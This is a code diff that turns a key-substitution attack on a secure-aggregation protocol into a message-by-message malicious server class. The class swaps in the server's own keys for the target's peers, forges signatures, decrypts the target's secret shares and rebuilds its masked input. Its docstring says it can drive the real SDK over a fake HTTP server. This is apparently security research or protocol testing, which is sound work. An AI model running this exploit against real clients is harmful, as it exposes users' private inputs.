@@ -53,53 +53,78 @@ def forge_config(config: SessionConfig, target: int, target_public: bytes) -> Se
     return dataclasses.replace(config, identity_keys=keys)
 
 
-def substitution_attack(session: ClientSession) -> Reconstruction:
-    """Play the whole server side against one target ``session`` (already constructed).
+class SubstitutingServer:
+    """The server side of the attack against one target, message by message.
 
-    Returns what the server could rebuild of the target's input.
+    Feed it what the target sends (:meth:`on_message`); it answers with the
+    next forged server message, or ``None`` once it holds the masked input.
+    Usable in-process (:func:`substitution_attack`) or behind a fake HTTP
+    server that the real SDK talks to.
     """
-    config, u = session.config, session.client_id
-    sid = config.session_id
-    rng = DeterministicRandom(SERVER_RNG_SEED)
-    advert = decode_message(session.start())
-    assert isinstance(advert, AdvertiseKeys)
-    peers = sorted(config.neighbour_graph.neighbours(u))
-    fake_cipher = {v: x25519_generate(rng) for v in peers}
-    fake_mask = {v: x25519_generate(rng) for v in peers}
-    entries = [advert.keys]
-    for v in peers:
-        signature = b""
-        if config.mode is Mode.ACTIVE:
-            payload = advertise_payload(sid, v, fake_cipher[v].public, fake_mask[v].public)
-            signature = ed25519_sign(server_identity(v), payload)
-        entries.append(AdvertisedKeys(v, fake_cipher[v].public, fake_mask[v].public, signature))
-    entries.sort(key=lambda e: e.sender)
-    reply = session.receive(KeyDirectory(sid, u, tuple(entries)).encode())
-    share_keys = decode_message(reply or b"")
-    assert isinstance(share_keys, ShareKeys)
-    view = AttackerView(
-        config=config,
-        target=u,
-        commitment=share_keys.self_mask_commitment,
-        mask_public_key=advert.keys.mask_public_key,
-        peer_mask_keys={v: fake_mask[v].public for v in peers},
-    )
-    # Every share ciphertext of the target opens under the server's substituted keys.
-    for v, ciphertext in share_keys.ciphertexts:
-        key = share_encryption_key(fake_cipher[v].agree(advert.keys.cipher_public_key), sid, u, v)
-        plaintext = aead_open(key, ciphertext, share_aad(sid, u, v))
-        view.mask_key_shares[v] = decode_share(plaintext[8 : 8 + SHARE_SIZE])
-        view.self_mask_shares[v] = decode_share(plaintext[8 + SHARE_SIZE :])
-    # Round 1 -> 2: the server forges well-formed shares "from" each peer.
-    bundle = []
-    for v in peers:
-        key = share_encryption_key(fake_cipher[v].agree(advert.keys.cipher_public_key), sid, v, u)
-        junk = encode_share(1) + encode_share(1)
-        bundle.append((v, aead_seal(key, u32(v) + u32(u) + junk, share_aad(sid, v, u))))
-    masked = decode_message(session.receive(ShareBundle(sid, u, tuple(bundle)).encode()) or b"")
-    assert isinstance(masked, MaskedInput)
-    view.masked = bytes(masked.masked)
-    return reconstruct(view)
+
+    def __init__(self, config: SessionConfig, target: int) -> None:
+        self.config, self.target = config, target
+        self.sid = config.session_id
+        rng = DeterministicRandom(SERVER_RNG_SEED)
+        self.peers = sorted(config.neighbour_graph.neighbours(target))
+        self.fake_cipher = {v: x25519_generate(rng) for v in self.peers}
+        self.fake_mask = {v: x25519_generate(rng) for v in self.peers}
+        self.view = AttackerView(config=config, target=target)
+        self.target_cipher_public = b""
+
+    def on_message(self, data: bytes) -> bytes | None:
+        msg = decode_message(data)
+        if isinstance(msg, AdvertiseKeys):
+            return self._directory(msg)
+        if isinstance(msg, ShareKeys):
+            return self._bundle(msg)
+        if isinstance(msg, MaskedInput):
+            self.view.masked = bytes(msg.masked)
+        return None
+
+    def _directory(self, advert: AdvertiseKeys) -> bytes:
+        u, sid = self.target, self.sid
+        self.target_cipher_public = advert.keys.cipher_public_key
+        self.view.mask_public_key = advert.keys.mask_public_key
+        self.view.peer_mask_keys = {v: self.fake_mask[v].public for v in self.peers}
+        entries = [advert.keys]
+        for v in self.peers:
+            cpk, mpk = self.fake_cipher[v].public, self.fake_mask[v].public
+            signature = b""
+            if self.config.mode is Mode.ACTIVE:
+                signature = ed25519_sign(server_identity(v), advertise_payload(sid, v, cpk, mpk))
+            entries.append(AdvertisedKeys(v, cpk, mpk, signature))
+        entries.sort(key=lambda e: e.sender)
+        return KeyDirectory(sid, u, tuple(entries)).encode()
+
+    def _bundle(self, share_keys: ShareKeys) -> bytes:
+        u, sid = self.target, self.sid
+        self.view.commitment = share_keys.self_mask_commitment
+        # Every share ciphertext of the target opens under the substituted keys.
+        for v, ciphertext in share_keys.ciphertexts:
+            shared = self.fake_cipher[v].agree(self.target_cipher_public)
+            key = share_encryption_key(shared, sid, u, v)
+            plaintext = aead_open(key, ciphertext, share_aad(sid, u, v))
+            self.view.mask_key_shares[v] = decode_share(plaintext[8 : 8 + SHARE_SIZE])
+            self.view.self_mask_shares[v] = decode_share(plaintext[8 + SHARE_SIZE :])
+        # Round 1 -> 2: well-formed shares "from" each peer, forged by the server.
+        bundle = []
+        for v in self.peers:
+            shared = self.fake_cipher[v].agree(self.target_cipher_public)
+            key = share_encryption_key(shared, sid, v, u)
+            junk = encode_share(1) + encode_share(1)
+            bundle.append((v, aead_seal(key, u32(v) + u32(u) + junk, share_aad(sid, v, u))))
+        return ShareBundle(sid, u, tuple(bundle)).encode()
+
+
+def substitution_attack(session: ClientSession) -> Reconstruction:
+    """Run the attack in-process against an already constructed target session."""
+    server = SubstitutingServer(session.config, session.client_id)
+    reply: bytes | None = session.start()
+    while reply is not None:
+        answer = server.on_message(reply)
+        reply = session.receive(answer) if answer is not None else None
+    return reconstruct(server.view)
 
 
 def target_session(
